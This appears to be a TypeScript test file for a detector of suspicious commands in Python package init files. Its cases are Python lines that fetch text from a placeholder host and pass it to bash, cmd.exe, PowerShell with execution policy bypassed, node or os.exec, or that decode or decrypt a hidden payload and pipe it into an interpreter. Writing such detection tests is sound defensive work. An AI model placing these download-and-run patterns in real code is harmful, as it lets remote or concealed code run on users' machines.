import { inInit, type Case } from './pack-of.ts'

const imports = ['import asyncio, base64, os, requests, subprocess, sys', 'from cryptography.fernet import Fernet']
const pack = (name: string, ...lines: string[]): Case =>
  inInit('suspicious-command', `commands: ${name}`, ...imports, 'u, x, k = "https://x.example", f(), g()', ...lines)

/** Downloaded or decoded text that a shell or an interpreter runs. */
export const commandsFromData: Case[] = [
  pack('fetched, with a suffix', 'os.system(requests.get(u).text + " &")'),
  pack('fetched, with a prefix', 'os.system("nohup " + requests.get(u).text)'),
  pack('fetched, behind another command', 'subprocess.run(f"cd /tmp; {requests.get(u).text}", shell=True)'),
  pack('fetched, quoted for a shell', 'os.popen("bash -c \'" + requests.get(u).text + "\'")'),
  pack('fetched, after -c', 'subprocess.run(["bash", "-c", requests.get(u).text])'),
  pack('fetched, after /c', 'subprocess.Popen(["cmd.exe", "/s", "/c", requests.get(u).text])'),
  pack(
    'fetched, after -Command',
    'subprocess.run(["powershell", "-ExecutionPolicy", "Bypass", "-Command", requests.get(u).text])',
  ),
  pack('fetched, after -e', 'subprocess.run(["node", "-e", requests.get(u).text])'),
  pack('fetched, in place of the process', 'os.execvp("bash", ["bash", "-c", requests.get(u).text])'),
  pack('fetched, as words', 'os.execlp("sh", "sh", "-c", requests.get(u).text)'),
  pack(
    'fetched, by asyncio',
    'async def go():',
    '    await asyncio.create_subprocess_exec("bash", "-c", requests.get(u).text)',
    'asyncio.run(go())',
  ),
  pack('decoded, after -c', 'subprocess.run([sys.executable, "-c", base64.b64decode(x).decode()])'),
  pack(
    'decoded, with a prefix',
    'subprocess.run([sys.executable, "-uc", "import os\\n" + base64.b64decode(x).decode()])',
  ),
  pack('decrypted, after -c', 'subprocess.run([sys.executable, "-c", Fernet(k).decrypt(x).decode()])'),
  pack('decoded, as input', 'subprocess.run([sys.executable, "-"], input=base64.b64decode(x))'),
  pack('fetched, as input', 'subprocess.run(["bash", "-s"], input=requests.get(u).text, text=True)'),
  pack(
    'decoded, for a running interpreter',
    'p = subprocess.Popen([sys.executable], stdin=subprocess.PIPE)',
    'p.communicate(base64.b64decode(x))',
  ),
  pack(
    'decoded, for a running shell',
    'with subprocess.Popen("bash", stdin=subprocess.PIPE) as p:',
    '    p.stdin.write(base64.b64decode(x))',
  ),
]
